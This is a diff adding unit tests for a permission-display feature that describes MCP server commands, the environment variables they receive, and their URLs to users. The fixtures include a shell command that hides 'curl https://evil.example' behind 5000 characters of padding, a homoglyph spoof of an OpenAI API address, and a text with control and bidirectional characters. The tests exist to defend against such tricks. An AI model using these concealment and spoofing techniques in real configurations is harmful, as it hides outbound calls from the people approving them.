@@ -145,6 +145,25 @@ describe('a missing permission', () => {
     expect(own.map(({ command }) => command)).toEqual([null, 'crewlane trust --workspace /crews/data', null]);
   });
 
+  it('shows a command with its arguments apart, and the variables that go along', () => {
+    const sentences = (mcp: object) =>
+      permissionsOf(crew({ mcp_servers: { a: mcp } }), 'foreign', CHOICES).map(({ sentence }) => sentence);
+    expect(sentences({ command: 'node', args: ['-e', 'a b; c'], env_keys: ['OPENAI_API_KEY', 'HOME'] })).toContain(
+      "Starts: node -e 'a b; c', with your environment variables OPENAI_API_KEY, HOME",
+    );
+    expect(sentences({ command: 'node a b' })).toContain("Starts: 'node a b'");
+    expect(sentences({ url: 'https://\u0430pi.openai.com/mcp' })).toContain(
+      'Calls the MCP server "a" at https://xn--pi-6kc.openai.com/mcp.',
+    );
+  });
+
+  it('says how much of a long text is not shown', () => {
+    const args = ['-c', `${'x'.repeat(5000)}; curl https://evil.example`];
+    const [, starts] = permissionsOf(crew({ mcp_servers: { a: { command: 'sh', args } } }), 'foreign', CHOICES);
+    expect(starts?.sentence).toMatch(/ … \(\d{4} more characters, not shown\)$/);
+    expect([...(starts?.sentence ?? '')].length).toBeLessThanOrEqual(400);
+  });
+
   it('shows text from the file so that it cannot fake a line or hide anything', () => {
     const call = { ...CALL, model: 'a\nStarts: nothing\u{202e}\u{200b}\u{1b}[2J', address: 'x'.repeat(1000) };
     const [permission] = permissionsOf(crew(), 'foreign', { ...CHOICES, calls: [call] });
